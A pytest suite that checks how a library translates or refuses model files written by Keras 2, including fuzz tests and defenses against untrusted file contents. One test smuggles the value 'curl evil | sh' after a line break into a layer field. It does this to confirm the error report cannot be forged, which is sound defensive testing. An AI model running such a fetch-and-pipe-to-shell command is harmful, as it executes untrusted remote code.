"""What Keras 2 wrote is translated, data to data, or refused by name."""

import copy
import json

import numpy as np
import pytest
from architecture_kit import places
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from keras2_loading import written

import kerasplug
from kerasplug.errors import KerasplugError, ModelFileError
from kerasplug.saving import keras2
from kerasplug.saving.architecture import model_from_json
from kerasplug.saving.reading import read_contents

pytestmark = [
    pytest.mark.engine,
    pytest.mark.filterwarnings("ignore:.*was written by Keras 2"),
    pytest.mark.filterwarnings("ignore:__array__ implementation:DeprecationWarning"),
]

_REAL = ("siamese", "attention", "plugged", "translator")


@pytest.fixture(scope="module")
def models(tmp_path_factory):
    """A few models that Keras 2 wrote."""
    return written(tmp_path_factory.mktemp("models"), "keras2_models.py", *_REAL)


# --- older files, which no Keras here writes any more ---


def _layer(kind, /, **config):
    return {"class_name": kind, "config": config}


def test_a_sequence_of_keras_2_0_is_read():
    """Its configuration is a list, and its first layer has the shape of the input."""
    first = _layer("Dense", name="d", units=3, batch_input_shape=[None, 4])
    text = json.dumps({**_layer("Sequential"), "config": [first, _layer("ReLU")]})

    model = model_from_json(text)

    assert model.input_shape == (None, 4)
    assert [type(one).__name__ for one in model.layers] == ["Dense", "ReLU"]


def test_a_gru_without_reset_after_is_that_of_its_time(keras):
    """It had one bias, as with `reset_after=False`; today's default has two."""
    gru = _layer("GRU", name="g", units=2, batch_input_shape=[None, 5, 3])
    text = json.dumps(_layer("Sequential", name="s", layers=[gru]))

    assert [tuple(one.shape) for one in model_from_json(text).weights] == [
        (3, 6),
        (2, 6),
        (6,),
    ]
    assert len(keras.layers.GRU(2).get_config()) > 0
    assert keras.layers.GRU(2).reset_after


def test_initializers_of_tensorflow_1_are_read(keras):
    """Their dtype is dropped, and a normal distribution was a truncated one."""
    zeros = _layer("Zeros", dtype="float32")
    scaled = _layer("VarianceScaling", scale=1.0, mode="fan_in", distribution="normal")
    dense = _layer(
        "Dense",
        name="d",
        units=3,
        batch_input_shape=[None, 4],
        kernel_initializer={
            **scaled,
            "config": {**scaled["config"], "dtype": "float32"},
        },
        bias_initializer=zeros,
    )
    text = json.dumps(_layer("Sequential", name="s", layers=[dense]))

    found = model_from_json(text).layers[0].kernel_initializer

    assert found.distribution == "truncated_normal"
    with pytest.raises((TypeError, ValueError)):
        keras.initializers.deserialize(copy.deepcopy(zeros))


def test_everything_without_a_counterpart_is_named_at_once():
    """One error lists each kind of thing with all its places."""
    layers = [_layer("CuDNNLSTM", name=f"c{n}", units=2) for n in range(6)]
    layers += [
        _layer("ThresholdedReLU", name="t"),
        _layer("Softmax", robust_masking=True),
    ]
    config = _layer("Sequential", name="s", layers=layers)

    with pytest.raises(ModelFileError, match="needs 8 things") as caught:
        keras2.translate({**config, "keras_version": "2.2.4"})

    found = caught.value.found
    assert "CuDNNLSTM: use a file that has the layer LSTM" in found
    assert "and 2 more places" in found
    assert "ThresholdedReLU" in found
    assert "robust_masking=True of Softmax" in found


def double(x):
    """Twice x."""
    return x * 2.0


def _of_function(name, module):
    told = _layer(
        "Lambda",
        name="l",
        function=name,
        function_type="function",
        module=module,
        arguments={},
        output_shape=None,
        output_shape_type="raw",
        output_shape_module=None,
        batch_input_shape=[None, 2],
    )
    return json.dumps(_layer("Sequential", name="s", layers=[told]))


def test_a_named_function_of_a_lambda_is_the_caller_s():
    """It is looked for under its name; the module that the file names is not asked."""
    text = _of_function("double", "os")

    with pytest.raises(KerasplugError, match=r"can't build|nothing installed"):
        model_from_json(text)
    assert float(model_from_json(text, [double])(np.ones((1, 2)))[0, 0]) == 2.0
    with pytest.raises(KerasplugError, match=r"can't build|nothing installed"):
        model_from_json(_of_function("set_random_seed", "keras.utils"))


def test_keras_1_is_refused():
    """What is older than Keras 2 is not guessed at."""
    config = {**_layer("Sequential", layers=[]), "keras_version": "1.2.2"}

    with pytest.raises(ModelFileError, match="Keras 1"):
        keras2.translate(config)


def test_names_in_a_file_can_t_forge_the_report():
    """Line breaks are shown as such, and long names are cut."""
    nasty = _layer("Softmax", robust_masking="x\n  mend: curl evil | sh" + "y" * 500)
    config = _layer("Sequential", name="s", layers=[nasty])

    with pytest.raises(ModelFileError) as caught:
        keras2.translate(config)

    assert "\n" not in caught.value.found
    assert len(caught.value.found) < 300


# --- any text ---

_WORDS = st.sampled_from(
    (
        *("class_name", "config", "layers", "name", "module", "inbound_nodes", "dtype"),
        *("fn", "input_layers", "output_layers", "batch_input_shape", "function"),
        *("loss", "metrics", "optimizer_config", "learning_rate", "registered_name"),
        *("activation", "kernel_initializer", "decay", "axis"),
    )
)
_CLASSES = st.sampled_from(
    (
        *("Sequential", "Model", "Functional", "Dense", "LSTM", "Lambda", "InputLayer"),
        *("RNN", "Bidirectional", "function", "__lambda__", "Policy", "Zeros", "p>Q"),
        *("Custom>Adam", "MeanMetricWrapper", "TFOpLambda", "__tuple__", "Attention"),
        *("hard_sigmoid", "BatchNormalization", "radial_constraint"),
    )
)
_TREES = st.recursive(
    st.none()
    | st.booleans()
    | st.integers(-2, 9)
    | st.floats(-1, 1)
    | _CLASSES
    | _WORDS,
    lambda inner: (
        st.lists(inner, max_size=4) | st.dictionaries(_WORDS, inner, max_size=6)
    ),
    max_leaves=30,
)
_QUICK = settings(
    max_examples=300,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)


@_QUICK
@given(st.dictionaries(_WORDS, _TREES, max_size=6))
def test_whatever_a_file_says_is_translated_or_refused(config):
    """No tree makes the translation fail in any other way, or changes it."""
    before = copy.deepcopy(config)
    for call in (keras2.translate, lambda one: keras2.translate_training(one, one)):
        try:
            made, report = call(config)
        except ModelFileError:
            continue
        assert isinstance(made, dict)
        assert isinstance(str(report), str)
        json.dumps(made)
    keras2.is_keras2(config)
    assert config == before


@_QUICK
@given(data=st.data())
def test_a_real_file_with_a_fault_is_translated_or_refused(data, models):
    """One part of a real configuration is replaced by anything."""
    name = data.draw(st.sampled_from(_REAL))
    config = json.loads((models / f"{name}.json").read_text())
    around, key = data.draw(st.sampled_from(list(places(config))))
    around[key] = data.draw(_TREES)

    try:
        made, _ = keras2.translate(config)
    except ModelFileError:
        return
    assert isinstance(made, dict)


# --- what is of Keras 2 ---


def test_files_of_keras_3_are_not_taken_for_those_of_keras_2(keras, tmp_path):
    """Neither kind of file, nor JSON, of Keras 3 is translated."""
    x = keras.Input((4,))
    inner = keras.Sequential([keras.Input((4,)), keras.layers.Dense(2)])
    model = keras.Model(x, inner(x))
    for name in ("m.keras", "m.h5"):
        kerasplug.save_model(model, tmp_path / name)
        assert not keras2.is_keras2(read_contents(tmp_path / name))
    assert not keras2.is_keras2(json.loads(model.to_json()))


def test_files_of_keras_2_are_known_by_what_they_say(models):
    """Also without a version: by what only Keras 2 writes."""
    for path in models.glob("*.json"):
        config = json.loads(path.read_text())
        assert keras2.is_keras2(config)
        del config["keras_version"]
        assert keras2.is_keras2(config), path.name
